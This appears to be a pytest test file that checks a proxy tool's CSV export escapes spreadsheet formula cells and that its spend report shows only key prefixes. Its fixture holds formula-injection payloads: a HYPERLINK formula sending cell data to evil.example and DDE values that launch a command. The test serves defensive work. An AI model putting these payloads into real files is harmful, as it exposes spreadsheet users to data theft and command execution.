"""`receipts export` CSV that a spreadsheet cannot execute; JSON lines keep the raw values."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path
from typing import Any

import orjson
import pytest
from click.testing import CliRunner

from nextmodel_proxy.cli.main import main
from nextmodel_proxy.ledger.spreadsheet import safe_cell
from nextmodel_proxy.ledger.writer import Ledger
from tests.test_ledger import make_receipt

HOSTILE = {
    "request_id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "project": "@SUM(1+1)*cmd|' /C calc'!A0",
    "team": "+1+cmd|' /C calc'!A0",
    "environment": "-42.5",
}


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.5", "-0.5"),
        ("+12", "+12"),
        ("-1e-5", "-1e-5"),
        ("-1-1", "'-1-1"),
        ("web", "web"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_safe_cell(text: str, expected: str) -> None:
    assert safe_cell(text) == expected


def test_export_escapes_formula_cells_and_jsonl_keeps_them(tmp_path: Path) -> None:
    path = tmp_path / "ledger.db"

    async def fill() -> None:
        ledger = Ledger(str(path))
        await ledger.start()
        await ledger.submit(make_receipt(1, **HOSTILE))
        await ledger.close()

    asyncio.run(fill())
    runner = CliRunner()
    out = runner.invoke(main, ["receipts", "export", "--db", str(path)], catch_exceptions=False)
    assert out.exit_code == 0, out.output
    (row,) = list(csv.DictReader(io.StringIO(out.stdout, newline="")))
    for column, value in HOSTILE.items():
        if column == "environment":  # a number is left a number
            assert row[column] == value
        else:
            assert row[column] == "'" + value
    assert row["billed_cost_usd"] == "0.005615"
    out = runner.invoke(
        main, ["receipts", "export", "--db", str(path), "--format", "jsonl"], catch_exceptions=False
    )
    assert out.exit_code == 0, out.output
    record = orjson.loads(out.stdout.splitlines()[0])
    for column, value in HOSTILE.items():
        assert record[column] == value


async def test_spend_by_key_shows_the_keys_name_and_prefix(write_config: Any, start_proxy: Any) -> None:
    import openai

    config = write_config()
    runner = CliRunner()
    made = runner.invoke(
        main,
        ["keys", "create", "--project", "web", "--name", "ci-bot", "--config", str(config.source_path)],
        catch_exceptions=False,
    )
    assert made.exit_code == 0, made.output
    key = next(w for w in made.output.split() if w.startswith("nm-") and len(w) > 20)
    proxy = await start_proxy(config)
    async with openai.AsyncOpenAI(base_url=proxy.base, api_key=key, max_retries=0) as c:
        await c.chat.completions.create(model="fake-basic", messages=[{"role": "user", "content": "hi"}])
    args = ["spend", "--by", "key", "--config", str(config.source_path)]
    table = runner.invoke(main, args, catch_exceptions=False).output
    header, row = table.splitlines()[:2]
    assert header.split()[:3] == ["KEY", "NAME", "PREFIX"]
    assert row.split()[1] == "ci-bot" and key.startswith(row.split()[2].rstrip("…"))
    rows = orjson.loads(runner.invoke(main, [*args, "--json"], catch_exceptions=False).output)["rows"]
    assert rows[0]["key_name"] == "ci-bot" and key.startswith(rows[0]["key_prefix"])
    assert key not in table  # the prefix, never the key
